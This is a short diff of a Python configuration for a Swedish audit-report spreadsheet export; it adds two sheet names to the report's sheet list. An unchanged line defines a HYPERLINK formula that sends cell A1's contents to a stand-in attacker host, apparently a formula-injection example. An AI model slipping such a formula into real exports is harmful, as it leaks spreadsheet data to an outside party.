@@ -39,6 +39,7 @@ PERIOD = {"fran": "2025-01-01", "till": "2025-12-31"}
 SHEETS = [
     "Sammanfattning",
     "Dokument per typ och status",
+    "Granskningsläge per förvaltning",
     "Beslut under perioden",
     "Genomförda revisioner",
     "Ska revideras",
@@ -47,6 +48,7 @@ SHEETS = [
     "Krävda riktlinjer",
     "LIS-områden",
     "Klarspråk (svår text)",
+    "Kvittens",
     "Revisorernas frågor",
 ]
 FORMULA = '=HYPERLINK("http://angripare.example/?d="&A1;"Klicka")'
